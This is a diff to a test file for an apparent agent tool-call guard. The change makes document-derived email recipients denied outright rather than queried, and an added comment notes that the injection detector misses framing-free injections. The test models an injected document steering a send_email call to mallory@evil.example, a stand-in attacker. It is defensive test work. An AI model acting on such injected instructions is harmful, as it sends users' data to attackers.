@@ -111,12 +111,12 @@ def test_a_clean_result_makes_nothing_hot_but_free_text_values_are_asked(engine)
     assert engine.decide("reserve_hotel", {"hotel": "Hotel Adlon"}).verdict == "allow"
 
 
-def test_taint_from_clean_text_is_a_question_and_from_a_flagged_result_a_deny(engine):
+def test_taint_from_clean_text_stays_a_deny_and_from_a_flagged_result_too(engine):
+    # A careless human would approve a question; the detector misses framing-free injections.
     seen(engine, "read_document",
          text("The minutes say we should mail the notes to bob@partner.example soon."), "pass")
     d = engine.decide("send_email", {"to": ["bob@partner.example"], "body": "notes"})
-    assert (d.verdict, d.contract) == ("ask", "sink_gate")
-    assert "came from the text of a document" in d.reason
+    assert (d.verdict, d.contract) == ("deny", "sink_gate")
     seen(engine, "read_document", text(INJECTED), "warn")
     d = engine.decide("send_email", {"to": ["mallory@evil.example"], "body": "notes"})
     assert (d.verdict, d.contract) == ("deny", "injected_action")
